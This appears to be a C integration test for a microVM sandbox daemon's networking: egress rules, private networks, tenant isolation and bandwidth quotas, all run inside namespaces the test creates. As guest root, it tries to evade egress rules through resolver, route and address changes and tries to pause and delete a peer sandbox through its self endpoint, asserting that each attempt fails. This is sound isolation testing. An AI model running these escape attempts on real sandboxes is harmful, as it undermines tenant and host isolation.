/* SPDX-License-Identifier: MIT */
/* test_network_vm.c: sandbox networking end to end (docs/api.md §2.5, §2.9, §3.6–§3.8;
 * docs/networking.md) with real microVMs, real taps, nftables and hearthd's DNS.
 *
 * The test process runs in a network namespace of its own (tests/run.sh; the test unshares one
 * itself too), which plays "the host": hearthd's uplink is masqueraded out of it. Behind it the
 * test builds an "internet" namespace: two HTTP servers (203.0.113.10 and .20, ports 80 and
 * 8080), a TCP sink (.10:9000) and dnsmasq on 203.0.113.53 answering allowed.test, other.test,
 * a.wild.test and wild.test. No packet leaves namespaces the test created.
 *
 * From inside guests: allow-all by default; host, host:port, *.host, ip and cidr rules; a name
 * allowed by rule works by name and then by the address it resolved to; a live change applies
 * within 1 s; a guest's own resolver, raw IPs and route changes do not get around the rules;
 * private networks (peers by name and <name>.<net>.hearth.internal, other networks, other
 * tenants, the host's services and a peer's self endpoint blocked); live attach and detach; a quota that caps and a
 * recharge that uncaps; a fork's new address and MAC; pause/resume keeps address, rules,
 * networks and counters; taps, addresses and nftables objects recycled after destroys.
 * The isolation suite (issue 16), as guest root: the host API and services on every host
 * address, another tenant's sandbox, a private network it is not on, metadata (169.254.169.254)
 * and a LAN host (192.168.77.7; blocked by default, open by rule and by egress_private), other
 * destinations by IP literal and by name, and DNS TXT tunnelling to a domain it may not reach
 * (the upstream's query log proves nothing left). */
#include "apitest.h"
#include "daemon/config.h"
#include "inetns.h"
#include "vmfx.h"

#include <errno.h>
#include <sqlite3.h>

#include "pgtest.h"
#include <stdarg.h>
#include <stdint.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* REQUIRE for test bodies: fail, then clean up (REQUIRE itself returns false) */
#define TREQ(cond)                                                                               \
    do {                                                                                         \
        if (!(cond)) {                                                                           \
            harness_fail(__FILE__, __LINE__, "REQUIRE(%s)", #cond);                              \
            goto out;                                                                            \
        }                                                                                        \
    } while (0)

#define DEVBOX "{\"shape\":\"s-1vcpu-512mb\",\"rootfs\":\"devbox:1\"}"
#define QUOTA_BYTES 4000000
#define CONF                                                                                     \
    "dns_upstream = 203.0.113.53\n"                                                              \
    "bandwidth_quota_bytes = 4000000\n"

/* The test's internet: a namespace behind the test's own, with servers in it. */
struct inet {
    char ns[64];
    char dir[128];
    pid_t servers, dns;
};

static const char SERVERS_PY[] =
    "import socket, threading, sys\n"
    "def http(addr, port):\n"
    "    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
    "    s.bind((addr, port)); s.listen(64)\n"
    "    body = ('server-%s-%d\\n' % (addr.split('.')[-1], port)).encode()\n"
    "    while True:\n"
    "        c, _ = s.accept()\n"
    "        try:\n"
    "            c.settimeout(5); c.recv(4096)\n"
    "            c.sendall(b'HTTP/1.0 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)\n"
    "        except Exception: pass\n"
    "        c.close()\n"
    "def sink(addr, port):\n"
    "    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
    "    s.bind((addr, port)); s.listen(64)\n"
    "    def drain(c):\n"
    "        try:\n"
    "            while c.recv(65536): pass\n"
    "        except Exception: pass\n"
    "        c.close()\n"
    "    while True:\n"
    "        c, _ = s.accept(); threading.Thread(target=drain, args=(c,), daemon=True).start()\n"
    "for a, p in [('203.0.113.10', 80), ('203.0.113.10', 8080), ('203.0.113.20', 80),\n"
    "             ('203.0.113.20', 8080), ('192.168.77.7', 80), ('169.254.169.254', 80)]:\n"
    "    threading.Thread(target=http, args=(a, p), daemon=True).start()\n"
    "threading.Thread(target=sink, args=('203.0.113.10', 9000), daemon=True).start()\n"
    "print('ready', flush=True)\n"
    "threading.Event().wait()\n";

static bool inet_up(struct inet *in)
{
    memset(in, 0, sizeof(*in));
    /* a namespace of our own, whatever ran us: the "host" of this test */
    /* the internet, and a "LAN" host and a cloud metadata service (docs/networking.md
     * "Private destinations") */
    static const char *const addrs[] = { "203.0.113.10", "203.0.113.20", "203.0.113.53",
                                         "192.168.77.7", "169.254.169.254" };
    REQUIRE(inetns_up(in->ns, "tinet", addrs, 5));
    snprintf(in->dir, sizeof(in->dir), "/tmp/hearth-inet-XXXXXX");
    REQUIRE(mkdtemp(in->dir));
    char path[256], cmd[1024];
    snprintf(path, sizeof(path), "%s/servers.py", in->dir);
    FILE *f = fopen(path, "w");
    REQUIRE(f);
    fputs(SERVERS_PY, f);
    fclose(f);
    snprintf(cmd, sizeof(cmd), "exec python3 %s >%s/servers.log 2>&1", path, in->dir);
    in->servers = inetns_spawn(in->ns, cmd);
    snprintf(cmd, sizeof(cmd),
             "exec dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces "
             "--listen-address=203.0.113.53 --except-interface=eth0 --user=root --pid-file= "
             "--local-ttl=60 --host-record=allowed.test,203.0.113.10 "
             "--host-record=other.test,203.0.113.20 --host-record=a.wild.test,203.0.113.20 "
             "--host-record=wild.test,203.0.113.10 --txt-record=exfil.test,hi "
             "--log-queries --log-facility=%s/queries.log >%s/dnsmasq.log 2>&1",
             in->dir, in->dir);
    in->dns = inetns_spawn(in->ns, cmd);
    /* ready when both answer from the test's namespace */
    for (int i = 0; i < 100; i++) {
        if (inetns_sh("curl -s -m 1 http://203.0.113.10/ >/dev/null 2>&1") == 0 &&
            inetns_sh("getent ahostsv4 localhost >/dev/null; python3 -c \"import socket;"
                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1);"
                "s.sendto(bytes.fromhex('12340100000100000000000007616c6c6f776564047465737400"
                "00010001'),('203.0.113.53',53));s.recv(512)\" 2>/dev/null") == 0)
            return true;
        usleep(100 * 1000);
    }
    harness_fail(__FILE__, __LINE__, "the test internet did not come up");
    return false;
}

static void inet_down(struct inet *in)
{
    inetns_kill(in->servers);
    inetns_kill(in->dns);
    inetns_down(in->ns);
    if (in->dir[0])
        inetns_sh("rm -rf %s", in->dir);
}

/* The test internet, then hearthd; false (everything undone) when either fails. */
static bool start(struct inet *in, struct vfx *f)
{
    if (!inet_up(in))
        return false;
    if (!vfx_start_conf(f, CONF)) {
        inet_down(in);
        return false;
    }
    return true;
}

/* Runs a shell script in the guest with the key in hdr; its exit code (or -1), stdout in out. */
static int gsh_as(struct vfx *f, const char *hdr, const char *id, const char *script, char *out,
                  size_t len)
{
    json_t *b = json_pack("{s:s,s:[s,s]}", "cmd", "sh", "args", "-c", script);
    char *body = json_dumps(b, JSON_COMPACT);
    json_decref(b);
    struct hresp r;
    char t[128];
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/exec", id);
    int code = -1;
    if (http_do(f->s.port, "POST", t, hdr, body, &r) == 0) {
        if (r.status != 200) /* not a check: some callers expect failures; a clue if not */
            printf("    exec in %s: HTTP %d %.300s\n", id, r.status, r.body);
        if (r.status == 200) {
            code = (int)jint(r.json, "data.result.exit_code");
            if (out)
                snprintf(out, len, "%s", jstr(r.json, "data.result.stdout") ?: "");
        }
        hresp_free(&r);
    }
    free(body);
    if (out) {
        size_t n = strlen(out);
        while (n && out[n - 1] == '\n')
            out[--n] = '\0';
    }
    return code;
}

static int gsh(struct vfx *f, const char *id, const char *script, char *out, size_t len)
{
    return gsh_as(f, f->hdr, id, script, out, len);
}

/* curl from the guest: 0 when the URL answered, else curl's exit code. */
static int fetch(struct vfx *f, const char *id, const char *url, char *out, size_t len)
{
    char s[512];
    snprintf(s, sizeof(s), "curl -sS -m 3 %s", url);
    return gsh(f, id, s, out, len);
}

static bool put_egress(struct vfx *f, const char *id, const char *rules_json)
{
    char t[128], body[4096];
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/egress", id);
    snprintf(body, sizeof(body), "{\"egress\":%s}", rules_json);
    struct hresp r;
    REQUIRE(call(f, "PUT", t, body, 200, &r));
    hresp_free(&r);
    return true;
}

static bool get_json(struct vfx *f, const char *target, struct hresp *r)
{
    return call(f, "GET", target, NULL, 200, r);
}

static void sandbox_ip(struct vfx *f, const char *id, char ip[32])
{
    char t[128];
    struct hresp r;
    snprintf(t, sizeof(t), "/v1/sandboxes/%s", id);
    ip[0] = '\0';
    if (get_json(f, t, &r)) {
        snprintf(ip, 32, "%s", jstr(r.json, "data.ip") ?: "");
        hresp_free(&r);
    }
}

TEST_SLOW(egress_rules_from_inside_the_guest, 900)
{
    struct inet in;
    struct vfx f;
    if (!start(&in, &f))
        return;
    char a[64], out[4096], ip[32];
    TREQ(create(&f, DEVBOX, a));
    sandbox_ip(&f, a, ip);
    CHECK(strncmp(ip, "10.88.", 6) == 0);
    CHECK(gsh(&f, a, "ip -4 -o addr show dev eth0", out, sizeof(out)) == 0);
    CHECK(strstr(out, ip) != NULL);

    /* allow-all by default: by address and by name through hearthd's DNS */
    CHECK_EQ(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)), 0);
    CHECK_STR(out, "server-20-80");
    CHECK_EQ(fetch(&f, a, "http://other.test/", out, sizeof(out)), 0);

    /* host rule: the name and then its address pass, nothing else */
    CHECK(put_egress(&f, a, "[\"allowed.test\"]"));
    CHECK_EQ(fetch(&f, a, "http://allowed.test/", out, sizeof(out)), 0);
    CHECK_STR(out, "server-10-80");
    CHECK_EQ(fetch(&f, a, "http://allowed.test:8080/", out, sizeof(out)), 0);
    CHECK_EQ(fetch(&f, a, "http://203.0.113.10/", out, sizeof(out)), 0);
    CHECK(fetch(&f, a, "http://other.test/", out, sizeof(out)) != 0);
    CHECK(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)) != 0);

    /* host:port */
    CHECK(put_egress(&f, a, "[\"allowed.test:8080\"]"));
    CHECK_EQ(gsh(&f, a, "getent hosts allowed.test", out, sizeof(out)), 0);
    CHECK_EQ(fetch(&f, a, "http://allowed.test:8080/", out, sizeof(out)), 0);
    CHECK_STR(out, "server-10-8080");
    CHECK(fetch(&f, a, "http://allowed.test/", out, sizeof(out)) != 0);

    /* *.host: any depth below, not the name itself */
    CHECK(put_egress(&f, a, "[\"*.wild.test\"]"));
    CHECK_EQ(fetch(&f, a, "http://a.wild.test/", out, sizeof(out)), 0);
    CHECK_STR(out, "server-20-80");
    CHECK(fetch(&f, a, "http://wild.test/", out, sizeof(out)) != 0);

    /* ip, ip:port and cidr */
    CHECK(put_egress(&f, a, "[\"203.0.113.20:8080\"]"));
    CHECK_EQ(fetch(&f, a, "http://203.0.113.20:8080/", out, sizeof(out)), 0);
    CHECK(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)) != 0);
    CHECK(put_egress(&f, a, "[\"203.0.113.16/28\"]"));
    CHECK_EQ(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)), 0);
    CHECK(fetch(&f, a, "http://203.0.113.10/", out, sizeof(out)) != 0);

    /* a live change applies within 1 s, cutting what is no longer allowed */
    CHECK(put_egress(&f, a, "[\"203.0.113.10\"]"));
    uint64_t t0 = harness_now_us();
    CHECK(put_egress(&f, a, "[\"203.0.113.20\"]"));
    CHECK_EQ(gsh(&f, a, "curl -sS -m 1 http://203.0.113.20/ && ! curl -sS -m 1 "
                        "http://203.0.113.10/", out, sizeof(out)), 0);
    CHECK(harness_now_us() - t0 < 3000000);

    /* guest root cannot get around them: its own resolver, raw addresses, its routes */
    CHECK(put_egress(&f, a, "[\"allowed.test\"]"));
    CHECK(gsh(&f, a, "echo nameserver 203.0.113.53 > /etc/resolv.conf; getent hosts other.test",
              out, sizeof(out)) != 0);
    CHECK(fetch(&f, a, "--resolve other.test:80:203.0.113.20 http://other.test/", out,
                sizeof(out)) != 0);
    CHECK(gsh(&f, a, "ip route replace default dev eth0; curl -sS -m 2 http://203.0.113.20/",
              out, sizeof(out)) != 0);
    CHECK(gsh(&f, a, "ip addr add 10.88.77.77/32 dev eth0; curl -sS -m 2 --interface "
                     "10.88.77.77 http://203.0.113.20/", out, sizeof(out)) != 0);

    /* allow all again */
    CHECK(put_egress(&f, a, "[\"*\"]"));
    CHECK(gsh(&f, a, "ip addr del 10.88.77.77/32 dev eth0; ip route replace default via "
                     "10.88.0.1 dev eth0", out, sizeof(out)) == 0);
    CHECK_EQ(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)), 0);
    /* hearthd killed and restarted: the running VM keeps its network and its rules */
    CHECK(put_egress(&f, a, "[\"allowed.test\"]"));
    CHECK(gsh(&f, a, "echo nameserver 10.88.0.1 > /etc/resolv.conf", out, sizeof(out)) == 0);
    TREQ(crash_restart(&f));
    CHECK_EQ(fetch(&f, a, "http://allowed.test/", out, sizeof(out)), 0);
    CHECK(fetch(&f, a, "http://other.test/", out, sizeof(out)) != 0);

    CHECK(put_egress(&f, a, "[]"));
    struct hresp r;
    char t[128];
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/egress", a);
    CHECK(get_json(&f, t, &r));
    CHECK_EQ(json_array_size(jpath(r.json, "data.egress")), 0);
    hresp_free(&r);
    CHECK(destroy(&f, a));
out:
    vfx_end(&f);
    inet_down(&in);
}

/* A TCP listener in the test's namespace (the host): stands for every host service. */
static pid_t host_service(void)
{
    pid_t p = fork();
    if (p == 0) {
        setpgid(0, 0);
        execlp("python3", "python3", "-c",
               "import socket\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,"
               "socket.SO_REUSEADDR,1);s.bind(('0.0.0.0',7777));s.listen(8)\nwhile True:\n"
               "  c,_=s.accept();c.sendall(b'host-service\\n');c.close()\n",
               (char *)NULL);
        _exit(127);
    }
    return p;
}

static bool make_network(struct vfx *f, const char *hdr, const char *name, char id[64])
{
    char body[128];
    snprintf(body, sizeof(body), "{\"name\":\"%s\"}", name);
    struct hresp r;
    REQUIRE(http_do(f->s.port, "POST", "/v1/networks", hdr, body, &r) == 0);
    bool ok = r.status == 200 && jstr(r.json, "data.id");
    if (ok)
        snprintf(id, 64, "%s", jstr(r.json, "data.id"));
    else
        harness_fail(__FILE__, __LINE__, "network create: %d %.300s", r.status, r.body);
    hresp_free(&r);
    return ok;
}

/* Creates a devbox sandbox named name with the key in hdr, in networks (JSON list). */
static bool create_in(struct vfx *f, const char *hdr, const char *name, const char *networks,
                      char id[64])
{
    char body[512];
    snprintf(body, sizeof(body),
             "{\"shape\":\"s-1vcpu-512mb\",\"rootfs\":\"devbox:1\",\"name\":\"%s\","
             "\"networks\":%s}",
             name, networks);
    struct hresp r;
    REQUIRE(http_do(f->s.port, "POST", "/v1/sandboxes", hdr, body, &r) == 0);
    bool ok = r.status == 200 && jstr(r.json, "data.id");
    if (ok)
        snprintf(id, 64, "%s", jstr(r.json, "data.id"));
    else
        harness_fail(__FILE__, __LINE__, "create %s: %d %.300s", name, r.status, r.body);
    hresp_free(&r);
    return ok;
}

/* Serves "<name>\n" on port 8000 in the guest, in the background. */
static bool guest_server(struct vfx *f, const char *id, const char *name)
{
    char s[512];
    snprintf(s, sizeof(s),
             "mkdir -p /srv && echo %s > /srv/who && cd /srv && setsid python3 -m http.server "
             "8000 </dev/null >/dev/null 2>&1 & for i in $(seq 300); do curl -s -m 1 "
             "http://127.0.0.1:8000/who && exit 0; sleep 0.1; done; exit 1",
             name);
    char out[256];
    REQUIRE(gsh(f, id, s, out, sizeof(out)) == 0);
    return true;
}

static bool member_ip_of(struct vfx *f, const char *net, const char *sb, char ip[32])
{
    char t[128];
    struct hresp r;
    snprintf(t, sizeof(t), "/v1/networks/%s", net);
    REQUIRE(get_json(f, t, &r));
    ip[0] = '\0';
    json_t *m = jpath(r.json, "data.members");
    for (size_t i = 0; i < json_array_size(m); i++) {
        json_t *e = json_array_get(m, i);
        if (strcmp(json_string_value(json_object_get(e, "sandbox_id")) ?: "", sb) == 0)
            snprintf(ip, 32, "%s", json_string_value(json_object_get(e, "ip")) ?: "");
    }
    hresp_free(&r);
    return ip[0] != '\0';
}

/* A key of another user ("mallory"), as the request header line in hdr. */
static bool other_tenant(struct vfx *f, char hdr[200])
{
    char key[128] = "", err[2048];
    const char *kc[] = { "keys", "--config", f->s.conf, "create", "--user", "mallory", NULL };
    REQUIRE(hd_run(kc, key, sizeof(key), err, sizeof(err)) == 0);
    key[strcspn(key, "\n")] = '\0';
    snprintf(hdr, 200, "X-Api-Key: %s\r\n", key);
    return true;
}

TEST_SLOW(private_networks_and_isolation, 900)
{
    pid_t svc = -1;
    struct inet in;
    struct vfx f;
    if (!start(&in, &f))
        return;
    svc = host_service();
    char hdr2[200], out[4096], t[256];
    TREQ(other_tenant(&f, hdr2));

    char na[64], nb[64], nm[64];
    TREQ(make_network(&f, f.hdr, "backend", na));
    TREQ(make_network(&f, f.hdr, "frontend", nb));
    TREQ(make_network(&f, hdr2, "backend", nm)); /* names are per user */
    char s1[64], s2[64], s3[64], s4[64];
    TREQ(create_in(&f, f.hdr, "db", "[{\"id\":\"backend\"}]", s1));
    snprintf(t, sizeof(t), "[{\"id\":\"%s\"}]", na);
    TREQ(create_in(&f, f.hdr, "api", t, s2));
    TREQ(create_in(&f, f.hdr, "web", "[{\"id\":\"frontend\"}]", s3));
    TREQ(create_in(&f, hdr2, "intruder", "[{\"id\":\"backend\"}]", s4));
    TREQ(guest_server(&f, s1, "db"));
    TREQ(guest_server(&f, s3, "web"));

    /* members reach each other by name and by <name>.<network>.hearth.internal */
    CHECK_EQ(gsh(&f, s2, "curl -sS -m 3 http://db:8000/who", out, sizeof(out)), 0);
    CHECK_STR(out, "db");
    CHECK_EQ(gsh(&f, s2, "curl -sS -m 3 http://db.backend.hearth.internal:8000/who", out,
                 sizeof(out)), 0);
    CHECK_STR(out, "db");
    char ip1[32], ip3[32], p1[32], p3[32];
    TREQ(member_ip_of(&f, na, s1, ip1));
    TREQ(member_ip_of(&f, nb, s3, ip3));
    sandbox_ip(&f, s1, p1);
    sandbox_ip(&f, s3, p3);
    CHECK(strcmp(ip1, p1) != 0);
    /* a peer that reaches db cannot reach db's self endpoint (docs/api.md §3.15: it listens on
     * db's loopback only), by either of db's addresses: db keeps running */
    snprintf(t, sizeof(t), "curl -sS -m 3 -X POST http://%s:1029/self/pause; "
                           "curl -sS -m 3 -X POST http://%s:1029/self/delete", ip1, p1);
    CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0);
    sleep(1);
    char st1[32];
    CHECK_STR(status_of(&f, s1, st1), "running");
    /* egress rules do not apply inside a network */
    CHECK(put_egress(&f, s2, "[\"allowed.test\"]"));
    snprintf(t, sizeof(t), "curl -sS -m 3 http://%s:8000/who", ip1);
    CHECK_EQ(gsh(&f, s2, t, out, sizeof(out)), 0);

    /* other networks, other tenants, primary addresses and the host: blocked */
    CHECK(gsh(&f, s2, "getent hosts web", out, sizeof(out)) != 0);
    CHECK(gsh(&f, s2, "getent hosts web.frontend.hearth.internal", out, sizeof(out)) != 0);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", ip3);
    CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", p3);
    CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", p1);
    CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0); /* a peer's primary address */
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", ip1);
    /* another tenant's "backend": its sandbox (run with its own key) reaches none of ours */
    CHECK_EQ(gsh_as(&f, hdr2, s4, "curl -sS -m 2 http://203.0.113.20/ >/dev/null", out,
                    sizeof(out)), 0); /* it runs, and has a network */
    CHECK(gsh_as(&f, hdr2, s4, t, out, sizeof(out)) > 0);
    CHECK(gsh_as(&f, hdr2, s4, "getent hosts db", out, sizeof(out)) > 0);
    CHECK(put_egress(&f, s2, "[]"));
    const char *host_addrs[] = { "198.51.100.1", "10.88.0.1", "169.254.88.1", "169.254.88.2" };
    for (size_t i = 0; i < 4; i++) {
        snprintf(t, sizeof(t), "curl -sS -m 2 telnet://%s:7777 </dev/null", host_addrs[i]);
        CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0);
    }
    /* the host side of that check works: the service answers from the host */
    CHECK_EQ(inetns_sh("curl -sS -m 2 telnet://198.51.100.1:7777 </dev/null | grep -q host-service"),
             0);

    /* live attach and detach */
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/networks", s2);
    struct hresp r;
    CHECK(call(&f, "POST", t, "{\"id\":\"frontend\"}", 200, &r));
    hresp_free(&r);
    bool reached = false;
    for (int i = 0; i < 50 && !reached; i++) {
        reached = gsh(&f, s2, "curl -sS -m 1 http://web:8000/who", out, sizeof(out)) == 0;
        if (!reached)
            usleep(100 * 1000);
    }
    CHECK(reached);
    CHECK(call(&f, "POST", t, "{\"id\":\"frontend\"}", 200, &r)); /* already a member */
    hresp_free(&r);
    snprintf(t, sizeof(t), "/v1/networks/%s", nb);
    CHECK(call(&f, "DELETE", t, NULL, 409, &r));
    CHECK_STR(jstr(r.json, "data.code"), "in_use");
    hresp_free(&r);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/networks/frontend", s2);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
    hresp_free(&r);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r)); /* not a member: still 200 */
    hresp_free(&r);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", ip3);
    CHECK(gsh(&f, s2, t, out, sizeof(out)) != 0);
    CHECK(gsh(&f, s2, "ip -4 -o addr show dev eth0 | grep -c inet", out, sizeof(out)) == 0);
    CHECK_STR(out, "2"); /* its primary address and backend's */

    /* pause and resume keep address, networks and rules */
    CHECK(put_egress(&f, s2, "[\"allowed.test\"]"));
    char before[32], after[32];
    sandbox_ip(&f, s2, before);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/pause", s2);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    char st[32];
    for (int i = 0; i < 300 && strcmp(status_of(&f, s2, st), "paused"); i++)
        usleep(100 * 1000);
    CHECK_STR(st, "paused");
    sandbox_ip(&f, s2, after);
    CHECK_STR(after, before);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/resume", s2);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    for (int i = 0; i < 300 && strcmp(status_of(&f, s2, st), "running"); i++)
        usleep(100 * 1000);
    CHECK_STR(st, "running");
    sandbox_ip(&f, s2, after);
    CHECK_STR(after, before);
    CHECK_EQ(gsh(&f, s2, "curl -sS -m 3 http://db:8000/who", out, sizeof(out)), 0);
    CHECK(fetch(&f, s2, "http://203.0.113.20/", out, sizeof(out)) != 0);
    CHECK_EQ(fetch(&f, s2, "http://allowed.test/", out, sizeof(out)), 0);

    /* a fork: its own address and MAC, the source's networks, reachable */
    char mac_src[64], mac_child[64], child[64], cip[32];
    CHECK_EQ(gsh(&f, s1, "cat /sys/class/net/eth0/address", mac_src, sizeof(mac_src)), 0);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/pause", s1);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/fork", s1);
    CHECK(call(&f, "POST", t, "{\"name\":\"db-copy\"}", 200, &r));
    snprintf(child, sizeof(child), "%s", jstr(r.json, "data.id") ?: "");
    hresp_free(&r);
    sandbox_ip(&f, child, cip);
    CHECK(cip[0] && strcmp(cip, p1) != 0);
    CHECK_EQ(gsh(&f, child, "cat /sys/class/net/eth0/address", mac_child, sizeof(mac_child)),
             0);
    CHECK(strcmp(mac_src, mac_child) != 0);
    CHECK_EQ(gsh(&f, child, "ip -4 -o addr show dev eth0", out, sizeof(out)), 0);
    CHECK(strstr(out, cip) != NULL);
    CHECK(strstr(out, p1) == NULL);
    CHECK_EQ(fetch(&f, child, "http://203.0.113.20/", out, sizeof(out)), 0);
    snprintf(t, sizeof(t), "/v1/sandboxes/by-ip/%s", cip);
    CHECK(get_json(&f, t, &r));
    CHECK_STR(jstr(r.json, "data.id"), child);
    hresp_free(&r);
    CHECK_EQ(gsh(&f, s2, "curl -sS -m 3 http://db-copy:8000/who || "
                         "getent hosts db-copy", out, sizeof(out)), 0);

    const char *all[] = { s1, s2, s3, child };
    for (size_t i = 0; i < 4; i++)
        CHECK(destroy(&f, all[i]));
    snprintf(t, sizeof(t), "/v1/sandboxes/%s", s4);
    CHECK(http_do(f.s.port, "DELETE", t, hdr2, NULL, &r) == 0);
    hresp_free(&r);
    for (int i = 0; i < 300 && strcmp(status_of(&f, s4, st), "destroyed"); i++)
        usleep(100 * 1000);
    snprintf(t, sizeof(t), "/v1/networks/%s", nb);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
    hresp_free(&r);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r)); /* a repeat by id */
    hresp_free(&r);
    CHECK(call(&f, "GET", "/v1/networks/frontend", NULL, 404, &r));
    hresp_free(&r);
out:
    if (svc > 0) {
        kill(-svc, SIGKILL);
        waitpid(svc, NULL, 0);
    }
    vfx_end(&f);
    inet_down(&in);
}

static long long bw(struct vfx *f, const char *id, const char *field)
{
    char t[128], p[64];
    struct hresp r;
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/bandwidth", id);
    snprintf(p, sizeof(p), "data.%s", field);
    long long v = -999;
    if (get_json(f, t, &r)) {
        json_t *j = jpath(r.json, p);
        v = json_is_true(j) ? 1 : json_is_false(j) ? 0 : (long long)json_integer_value(j);
        hresp_free(&r);
    }
    return v;
}

/* Whether hearthd's log (its stderr) holds needle. */
static bool log_has(const struct vfx *f, const char *needle)
{
    FILE *l = fopen(f->s.log, "r");
    char line[4096];
    bool found = false;
    while (l && !found && fgets(line, sizeof(line), l))
        found = strstr(line, needle) != NULL;
    if (l)
        fclose(l);
    return found;
}

/* Injects a store failure into the bandwidth meter: another connection holds the database's
 * write lock (WAL: readers go on, every write fails with SQLITE_BUSY after hearthd's 5 s busy
 * timeout; PostgreSQL: the store's advisory write lock, writes fail after its 5 s lock_timeout)
 * while the guest sends 2 MB, for long enough that the meter's write fails. The bytes
 * it read then must still be counted once the lock is gone: the meter adds readings it stored,
 * it never resets a counter before the store has the bytes (ctl/netplane.c). */
static bool bandwidth_survives_store_failure(struct vfx *f, const char *id)
{
    long long u0 = bw(f, id, "used_bytes");
    char db[256], out[4096];
    snprintf(db, sizeof(db), "%s", hd_store(&f->s));
    sqlite3 *h = NULL;
    PGconn *pg = NULL;
    if (f->s.pg) {
        REQUIRE((pg = pgtest_hold_write_lock(db)) != NULL);
    } else {
        REQUIRE(sqlite3_open(db, &h) == SQLITE_OK);
        REQUIRE(sqlite3_exec(h, "BEGIN IMMEDIATE", NULL, NULL, NULL) == SQLITE_OK);
    }
    gsh(f, id, "timeout 20 python3 -c \"import socket\n"
               "s = socket.create_connection(('203.0.113.10', 9000), timeout=5)\n"
               "b = bytes(65536)\n"
               "for i in range(32): s.sendall(b)\n\" >/dev/null 2>&1; true", out, sizeof(out));
    for (int i = 0; i < 150 && !log_has(f, "counted at the next reading"); i++)
        usleep(100 * 1000);
    bool failed = log_has(f, "counted at the next reading");
    if (h)
        (void)sqlite3_exec(h, "ROLLBACK", NULL, NULL, NULL);
    sqlite3_close(h);
    pgtest_release(pg);
    REQUIRE(failed); /* the failure was injected */
    long long u1 = u0;
    for (int i = 0; i < 100 && u1 < u0 + 32 * 65536; i++) {
        usleep(100 * 1000);
        u1 = bw(f, id, "used_bytes");
    }
    if (u1 < u0 + 32 * 65536)
        harness_fail(__FILE__, __LINE__, "used_bytes %lld -> %lld: bytes lost with the store "
                                         "write", u0, u1);
    REQUIRE(u1 >= u0 + 32 * 65536);
    return true;
}

TEST_SLOW(bandwidth_quota_and_recycling, 900)
{
    struct inet in;
    struct vfx f;
    if (!start(&in, &f))
        return;
    char a[64], out[4096], t[256];
    TREQ(create(&f, DEVBOX, a));
    CHECK_EQ(bw(&f, a, "quota_bytes"), QUOTA_BYTES);
    CHECK_EQ(bw(&f, a, "capped"), 0);
    /* 20 MB towards the sink: the quota of 4 MB runs out and egress is dropped */
    gsh(&f, a, "timeout 20 python3 -c \"import socket\n"
               "s = socket.create_connection(('203.0.113.10', 9000), timeout=5)\n"
               "b = bytes(65536)\n"
               "for i in range(305): s.sendall(b)\n\" >/dev/null 2>&1; true", out, sizeof(out));
    bool capped = false;
    for (int i = 0; i < 50 && !capped; i++) {
        capped = bw(&f, a, "capped") == 1;
        if (!capped)
            usleep(100 * 1000);
    }
    CHECK(capped);
    long long used = bw(&f, a, "used_bytes");
    CHECK(used >= QUOTA_BYTES);
    CHECK(bw(&f, a, "remaining_bytes") <= 0);
    CHECK(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)) != 0);
    /* recharge adds exactly add_bytes, and egress comes back within 5 s */
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/bandwidth/recharge", a);
    struct hresp r;
    CHECK(call(&f, "POST", t, "{\"add_bytes\":100000000}", 200, &r));
    CHECK_EQ(jint(r.json, "data.quota_bytes"), QUOTA_BYTES + 100000000LL);
    hresp_free(&r);
    bool back = false;
    for (int i = 0; i < 50 && !back; i++) {
        back = fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)) == 0;
        if (!back)
            usleep(100 * 1000);
    }
    CHECK(back);
    CHECK(bw(&f, a, "ingress_bytes") > 0);
    CHECK(bandwidth_survives_store_failure(&f, a));
    /* counters persist across pause/resume and a restart of hearthd */
    long long used2 = bw(&f, a, "used_bytes");
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/pause", a);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    char st[32];
    for (int i = 0; i < 300 && strcmp(status_of(&f, a, st), "paused"); i++)
